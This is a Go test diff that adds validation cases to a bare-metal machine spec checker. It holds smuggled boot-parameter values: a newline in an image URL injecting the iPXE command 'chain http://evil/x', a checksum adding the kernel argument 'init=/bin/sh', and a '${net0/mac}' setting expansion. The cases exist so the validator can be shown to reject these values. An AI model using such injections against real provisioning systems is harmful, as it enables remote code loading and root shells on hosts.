@@ -49,6 +49,15 @@ func TestMachineValidation(t *testing.T) {
 			s.Image = &infrav1.Image{URL: "http://i/x.iso", Format: "live-iso"}
 			s.AutomatedCleaningMode = "metadata"
 		}, err: "spec.automatedCleaningMode: Invalid"},
+		{name: "newline in the image URL injects iPXE commands", mod: func(s *infrav1.YonderMetalMachineSpec) {
+			s.Image.URL = "http://i/x.qcow2\nchain http://evil/x"
+		}, err: "spec.image.url: Invalid value: \"http://i/x.qcow2\\nchain http://evil/x\": InvalidBootParameter: spec.image.url holds control character '\\n'"},
+		{name: "blank in the checksum adds a kernel argument", mod: func(s *infrav1.YonderMetalMachineSpec) {
+			s.Image.Checksum = "abc init=/bin/sh"
+		}, err: "spec.image.checksum: Invalid value: \"abc init=/bin/sh\": InvalidBootParameter: spec.image.checksum holds a blank"},
+		{name: "setting expansion in the URL", mod: func(s *infrav1.YonderMetalMachineSpec) {
+			s.Image.URL = "http://i/${net0/mac}.qcow2"
+		}, err: "InvalidBootParameter: spec.image.url holds \"${\""},
 		{name: "bad selector", mod: func(s *infrav1.YonderMetalMachineSpec) {
 			s.HostSelector.MatchExpressions = []metav1.LabelSelectorRequirement{{Key: "k", Operator: "Near"}}
 		}, err: "spec.hostSelector: Invalid"},
